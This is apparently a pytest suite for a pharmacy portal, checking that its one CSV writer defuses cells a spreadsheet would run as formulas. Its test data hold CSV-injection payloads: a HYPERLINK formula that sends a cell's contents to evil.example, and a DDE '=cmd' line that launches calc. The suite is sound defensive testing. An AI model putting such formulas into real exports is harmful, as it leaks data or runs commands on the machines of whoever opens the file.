"""Every CSV export goes through one writer that defuses cells a spreadsheet would run as
formulas: a leading = + - @, tab or carriage return gets an apostrophe (OWASP, "CSV
Injection"); issue 17, item 3 and "Exports"."""

import csv
import io
from decimal import Decimal
from pathlib import Path

import pytest

from portal.audit import log as audit
from portal.foundation.db import write_transaction
from portal.foundation.exports import csv_text, safe_cell
from tests.factories import (
    advance_fill,
    make_claim,
    make_coverage,
    make_fill,
    make_patient,
    make_payer,
    make_prescription,
    make_product,
    make_user,
)

PORTAL = Path(__file__).resolve().parents[2] / "portal"
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for details")'


def _rows(response) -> list[dict]:
    assert response.status_code == 200 and response.mimetype == "text/csv"
    return list(csv.DictReader(io.StringIO(response.get_data(as_text=True), newline="")))


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
def test_a_cell_starting_like_a_formula_is_written_as_text(start):
    assert safe_cell(f"{start}1+1") == f"'{start}1+1"
    [row] = list(csv.reader(io.StringIO(csv_text(["note"], [[f"{start}cmd"]]), newline="")))[1:]
    assert row == [f"'{start}cmd"]


def test_numbers_the_portal_computed_stay_numbers():
    text = csv_text(["paid", "count", "none"], [[Decimal("-12.50"), 3, None]])
    assert text.splitlines()[1] == "-12.50,3,"


def test_the_audit_export_defuses_a_hold_reason_typed_as_a_formula(app, client_as):
    with write_transaction():
        audit.record("hold", "fill", 1, note=HYPERLINK)
        audit.record("hold", "fill", 2, note="\t=1+2")
    manager = client_as("manager")

    rows = _rows(manager.get("/audit/export.csv"))

    notes = {row["entity_id"]: row["note"] for row in rows if row["action"] == "hold"}
    assert notes == {"1": "'" + HYPERLINK, "2": "'\t=1+2"}


def test_the_claims_export_defuses_names_and_keeps_amounts(app, client_as):
    payer = make_payer(name="\t@SUM(1+1)")
    coverage = make_coverage(make_patient(last_name="\r=cmd|' /C calc'!A0"), payer)
    make_claim("submitted", coverage=coverage)
    technician = client_as("technician")

    [row] = _rows(technician.get("/claims/export.csv"))

    assert row["payer"] == "'\t@SUM(1+1)"
    assert row["patient"].startswith("'\r=cmd")
    assert row["billed"] == "50.50"


def test_the_controlled_substance_export_defuses_a_tab_before_a_formula(app, client_as):
    technician, pharmacist = make_user(roles=("technician",)), make_user(roles=("pharmacist",))
    oxycodone = make_product(name="Oxycodone Hydrochloride", dosage_form="tablet", schedule="2")
    prescription = make_prescription(
        product=oxycodone,
        patient=make_patient(last_name="\t=2+5", allergy_status="nkda"),
        quantity=Decimal(20),
        quantity_unit="tab",
        days_supply=5,
        user=technician,
        schedule="2",
    )
    advance_fill(make_fill(prescription), "ready", pharmacist=pharmacist, technician=technician)
    manager = client_as("manager")

    [row] = _rows(manager.get("/reports/controlled.csv?preset=today"))

    assert row["patient"].startswith("'\t=2+5")


def test_only_the_export_module_writes_csv():
    """One writer: no other module builds CSV by hand or sends text/csv itself."""
    offenders = [
        str(path.relative_to(PORTAL.parent))
        for path in PORTAL.rglob("*.py")
        if path.name != "exports.py"
        and any(
            marker in path.read_text() for marker in ("csv.writer", "csv.DictWriter", "text/csv")
        )
    ]
    assert offenders == []
